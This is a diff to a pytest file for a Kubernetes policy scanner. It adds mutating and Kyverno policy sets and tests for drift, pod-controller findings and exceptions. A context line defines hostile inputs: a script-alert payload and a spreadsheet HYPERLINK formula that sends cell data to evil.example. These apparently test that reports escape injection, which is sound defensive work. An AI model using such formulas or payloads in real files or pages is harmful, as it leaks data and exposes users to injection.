@@ -22,6 +22,7 @@ README = (ROOT / "examples" / "README.md").read_text()
 ASSAY = Path(sys.executable).with_name("assay")
 RECORDED = json.loads(Path(__file__).with_name("verdicts.json").read_text())
 STATES = ("before", "after")
+POLICIES = ("policies", "policies-mutating", "policies-kyverno")
 HOSTILE = ("<script>alert(1)</script>", '=HYPERLINK("https://evil.example/?x="&A1)')
 
 Verdict = tuple[str, ...]
@@ -50,15 +51,21 @@ def ran(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Ran]:
 
 def _scanned(state: str, folder: Path) -> Ran:
     done = assay(
-        *("scan", "-q", "-o", "json", "--from", f"examples/cluster/{state}", "-f", "examples/policies"),
+        *("scan", "-q", "-o", "json", "--from", f"examples/cluster/{state}"),
+        *(argument for name in POLICIES for argument in ("-f", f"examples/{name}")),
         *("--cluster-name", "shop", "--db", folder / "assay.db", "--html", folder / state),
     )
     return Ran(done.returncode, json.loads(done.stdout), folder / state)
 
 
-def verdicts(ran: Ran) -> set[Verdict]:
-    """What the report found: like the recorded verdicts."""
-    return {_verdict(found) for found in as_list(ran.report["findings"])}
+def findings(ran: Ran, language: str) -> list[Json]:
+    """The findings of the policies of one language."""
+    return [finding for finding in as_list(ran.report["findings"]) if dig(finding, "language") == language]
+
+
+def verdicts(ran: Ran, language: str = "ValidatingAdmissionPolicy") -> set[Verdict]:
+    """The findings in the form of the recorded verdicts."""
+    return {_verdict(finding) for finding in findings(ran, language)}
 
 
 def _verdict(found: Json) -> Verdict:
@@ -118,6 +125,25 @@ def test_what_was_fixed_is_found_no_more(name: str, policies: set[str], ran: dic
     """A deleted pod and an Ingress that gained TLS."""
     assert policies == of(name, verdicts(ran["before"]))
     assert set() == of(name, verdicts(ran["after"]))
+
+
+def test_the_mutating_policy_would_change_what_is_older_than_it(ran: dict[str, Ran]) -> None:
+    """Three workloads lack the label that the policy adds: drift, and no violation."""
+    drift = findings(ran["after"], "MutatingAdmissionPolicy")
+    assert {"wouldChange"} == {as_text(dig(finding, "outcome")) for finding in drift}
+    assert {"wiki", "fraud-scorer", "landing-page"} == {as_text(dig(finding, "object", "name")) for finding in drift}
+
+
+def test_the_policy_of_kyverno_is_evaluated_for_the_controllers_of_pods(ran: dict[str, Ran]) -> None:
+    """The policy names pods alone; the findings are on Deployments, CronJobs and Jobs too."""
+    kinds = {verdict[2] for verdict in verdicts(ran["after"], "ValidatingPolicy")}
+    assert {"CronJob", "DaemonSet", "Deployment", "Job", "Pod", "ReplicaSet"} == kinds
+
+
+def test_the_exception_of_kyverno_covers_the_platform_alone(ran: dict[str, Ran]) -> None:
+    """Excepted findings are those in the namespace of the PolicyException."""
+    excepted = [finding for finding in findings(ran["after"], "ValidatingPolicy") if dig(finding, "exceptedBy")]
+    assert ["platform"] * 3 == [as_text(dig(finding, "object", "namespace")) for finding in excepted]
 
 
 @pytest.mark.parametrize("state", STATES)
